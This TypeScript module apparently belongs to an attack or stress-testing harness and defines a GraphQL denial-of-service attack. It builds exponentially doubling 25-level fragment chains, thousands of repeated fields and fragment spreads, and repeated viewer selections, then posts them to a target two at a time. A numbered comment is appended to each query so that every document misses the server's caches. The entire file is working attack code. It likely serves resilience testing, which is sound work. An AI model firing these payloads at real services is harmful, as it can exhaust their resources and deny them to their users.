import { postOperation, type Attack } from './attack.ts';

const LEVELS = 25;
const MANY = 4000;
const ID = '00000000-0000-0000-0000-0000000000ff';

/** Fragments of which each spreads the next one twice: doubled at every level where spreads are opened again. */
function doublingChain(type: string, leaf: string): string {
  const levels = Array.from(
    { length: LEVELS },
    (_, i) => `fragment F${i} on ${type}{...F${i + 1} ...F${i + 1}}`,
  );
  return `${levels.join(' ')} fragment F${LEVELS} on ${type}{${leaf}}`;
}

/** Small documents that are much work for an executor, a validator or a measure which walks them naively. */
const DOCUMENTS: readonly string[] = [
  `{_service{...F0}} ${doublingChain('_Service', 'sdl')}`,
  `{task(id:"${ID}"){...F0}} ${doublingChain('Task', 'id')}`,
  `{task(id:"${ID}"){${'id '.repeat(MANY)}}}`,
  `{task(id:"${ID}"){${'...F '.repeat(MANY)}}} fragment F on Task{id name}`,
  `{task(id:"${ID}"){${'...{id}'.repeat(MANY / 2)}}}`,
  `{${'viewer{role}'.repeat(MANY / 2)}}`,
];

export const fragments: Attack = {
  about: 'documents of a few kilobytes that expand or compare without end',
  concurrency: 2,
  strike: async (target, n) => {
    // A comment makes the text a new one for every cache of documents.
    await postOperation(target, { query: `${DOCUMENTS[n % DOCUMENTS.length] ?? ''} # ${n}` });
  },
};
